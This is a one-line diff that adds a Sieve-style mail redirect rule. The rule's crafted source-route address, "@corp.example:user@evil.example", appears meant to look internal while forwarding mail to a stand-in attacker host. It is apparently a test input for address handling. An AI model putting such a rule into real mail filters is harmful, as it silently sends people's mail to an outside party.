@@ -1,0 +1,1 @@
+redirect "@corp.example:user@evil.example";
